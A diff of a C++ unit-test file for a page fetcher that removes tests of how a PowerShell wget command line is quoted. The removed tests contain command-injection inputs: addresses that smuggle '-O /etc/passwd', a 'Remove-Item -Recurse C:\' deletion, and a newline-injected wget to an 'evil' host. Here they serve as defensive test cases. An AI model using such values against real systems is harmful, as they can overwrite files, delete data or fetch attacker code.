@@ -1,6 +1,5 @@
 // The page fetcher on the fake host: spacing, settling, responsiveness while
-// a command runs, stop; the command line against hostile input; the waiting
-// and comparing helpers.
+// a command runs, stop; the waiting and comparing helpers.
 #include "harvest/fetch_page.h"
 
 #include <gtest/gtest.h>
@@ -14,9 +13,7 @@
 
 #include "harvest/harvest.h"
 #include "harvest/harvest_texts.h"
-#include "platform/cmdline.h"
 #include "platform/platform.h"
-#include "platform/powershell_args.h"
 #include "platform/scratch_folder.h"
 #include "support/fake_harvest_view.h"
 #include "support/fake_run_host.h"
@@ -31,105 +28,6 @@ using kivo::testing::ScratchFolder;
 constexpr char kListing[] =
     "https://www.kivo.co.jp/bec/SE/Genre?dcode=01&ccode=01&taishongpi=20261207"
     "&Genre_id=010100&listcnt=1";
-
-// ---- The command line -------------------------------------------------------
-
-TEST(BuildFetchCommandLine, OrdinaryAddressesAsTheHelperExpects) {
-  EXPECT_EQ(BuildFetchCommandLine(kListing, "C:\\Temp\\Getkivo.html"),
-            "powershell wget 'https://www.kivo.co.jp/bec/SE/Genre?dcode=01\"&\"ccode=01\"&\""
-            "taishongpi=20261207\"&\"Genre_id=010100\"&\"listcnt=1' -O 'C:\\Temp\\Getkivo.html'");
-  EXPECT_EQ(BuildFetchCommandLine("http://example.com/a?b=1&c=2", "/tmp/Getkivo2.html"),
-            "powershell wget 'http://example.com/a?b=1\"&\"c=2' -O '/tmp/Getkivo2.html'");
-  // Characters PowerShell or a URL might mind, but the line does not, pass.
-  EXPECT_EQ(BuildFetchCommandLine("HTTPS://x/%41;$(a)|b`c#d", "/t/f"),
-            "powershell wget 'HTTPS://x/%41;$(a)|b`c#d' -O '/t/f'");
-}
-
-TEST(BuildFetchCommandLine, SplitsIntoTheFiveWordsOfTheCommand) {
-  const auto words =
-      platform::SplitCommandLine(BuildFetchCommandLine(kListing, "C:\\Temp\\Getkivo.html"));
-  EXPECT_EQ(words,
-            (std::vector<std::string>{"powershell", "wget", std::string("'") + kListing + "'", "-O",
-                                      "'C:\\Temp\\Getkivo.html'"}));
-}
-
-TEST(BuildFetchCommandLine, EncodesWhatCouldBreakOutOfTheQuotes) {
-  EXPECT_EQ(BuildFetchCommandLine("https://x/a' -O '/etc/passwd", "/t/f"),
-            "powershell wget 'https://x/a%27%20-O%20%27/etc/passwd' -O '/t/f'");
-  EXPECT_EQ(BuildFetchCommandLine("https://x/\"a\\b\"\t\x7f\x01", "/t/f"),
-            "powershell wget 'https://x/%22a%5Cb%22%09%7F%01' -O '/t/f'");
-  // Shift-JIS "本" (96 7B) in an address: the lead byte is encoded, the
-  // second is plain ASCII; decoding gives the same two bytes.
-  EXPECT_EQ(BuildFetchCommandLine("https://x/?q=\x96\x7b\xe0\xa0", "/t/f"),
-            "powershell wget 'https://x/?q=%96{%E0%A0' -O '/t/f'");
-  // A run of "&" sits in one pair of double quotes.
-  EXPECT_EQ(BuildFetchCommandLine("https://x/?a&&b", "/t/f"),
-            "powershell wget 'https://x/?a\"&&\"b' -O '/t/f'");
-}
-
-TEST(BuildFetchCommandLine, HostileAddressesStayOneWord) {
-  const std::vector<std::string> hostile = {
-      "https://x/a' -O '/etc/passwd",
-      "https://x/a'; Remove-Item -Recurse C:\\ ; '",
-      "https://x/\" -O \"/etc/passwd",
-      "https://x/a\\\" -O /etc/passwd \\\"",
-      "https://x/a\"&\"b\"\"&\"\"'",
-      "https://x/&&&\"&'&\\&",
-      "https://x/\r\nwget 'http://evil/' -O '/tmp/x'",
-      "https://x/a'' -O ''b",
-  };
-  for (const std::string& address : hostile) {
-    SCOPED_TRACE(address);
-    const std::string line = BuildFetchCommandLine(address, "/tmp/Getkivo.html");
-    ASSERT_FALSE(line.empty());
-    const auto words = platform::SplitCommandLine(line);
-    ASSERT_EQ(words.size(), 5u);
-    EXPECT_EQ(words[1], "wget");
-    EXPECT_EQ(words[2].front(), '\'');
-    EXPECT_EQ(words[2].back(), '\'');
-    EXPECT_EQ(words[2].find('\'', 1), words[2].size() - 1);  // no quote inside
-    EXPECT_EQ(words[3], "-O");
-    EXPECT_EQ(words[4], "'/tmp/Getkivo.html'");
-  }
-}
-
-TEST(BuildFetchCommandLine, TheDownloadHelperReadsItBack) {
-  struct Case {
-    std::string address, path, read_address;
-  };
-  const std::vector<Case> cases = {
-      {kListing, "/tmp/Getkivo.html", kListing},
-      {"https://x/a' -O '/etc/passwd", "/tmp/it's here.html",
-       "https://x/a%27%20-O%20%27/etc/passwd"},
-      {"https://x/?a&&b", "C:\\Documents and Settings\\\x95\x5c\\Getkivo2.html", "https://x/?a&&b"},
-  };
-  for (const Case& c : cases) {
-    SCOPED_TRACE(c.address);
-    const auto words = platform::SplitCommandLine(BuildFetchCommandLine(c.address, c.path));
-    ASSERT_GE(words.size(), 2u);
-    const std::string joined =
-        platform::JoinCommandWords(std::vector<std::string>(words.begin() + 1, words.end()));
-    platform::DownloadCommand command;
-    std::string error;
-    ASSERT_TRUE(platform::ParseDownloadCommand(joined, command, error)) << error;
-    EXPECT_EQ(command.address, c.read_address);
-    EXPECT_EQ(command.output_path, c.path);
-  }
-}
-
-TEST(BuildFetchCommandLine, RefusesWhatCannotBePassedSafely) {
-  EXPECT_EQ(BuildFetchCommandLine("", "/t/f"), "");
-  EXPECT_EQ(BuildFetchCommandLine("https://x/", ""), "");
-  EXPECT_EQ(BuildFetchCommandLine("ftp://x/", "/t/f"), "");
-  EXPECT_EQ(BuildFetchCommandLine("file:///etc/passwd", "/t/f"), "");
-  EXPECT_EQ(BuildFetchCommandLine("-O /etc/passwd https://x/", "/t/f"), "");
-  EXPECT_EQ(BuildFetchCommandLine("https:/x", "/t/f"), "");
-  EXPECT_EQ(BuildFetchCommandLine("https://x/", "/t/\"f"), "");
-  EXPECT_EQ(BuildFetchCommandLine("https://x/", "/t/f\n"), "");
-  EXPECT_EQ(BuildFetchCommandLine("https://x/", "/t/\tf"), "");
-  EXPECT_EQ(BuildFetchCommandLine("https://x/", "/tmp/it's.html"),
-            "powershell wget 'https://x/' -O '/tmp/it''s.html'");
-}
 
 // ---- FetchPage ---------------------------------------------------------------
 
@@ -157,7 +55,7 @@ TEST_F(FetchPageTest, FetchesIntoTheFileAndReturnsItsSize) {
   ServeBody("<html>12345</html>");
   EXPECT_EQ(harvest_.FetchPage(kListing, file_), 18);
   ASSERT_EQ(host_.commands.size(), 1u);
-  EXPECT_EQ(host_.commands[0].command_line, BuildFetchCommandLine(kListing, file_));
+  EXPECT_EQ(host_.commands[0].command_line, protocol::BuildFetchCommandLine(kListing, file_));
   EXPECT_EQ(host_.commands[0].working_folder, "/opt/Host/Plugins/");
   // The first fetch after start-up does not wait.
   EXPECT_EQ(host_.commands[0].started_ms, 0);
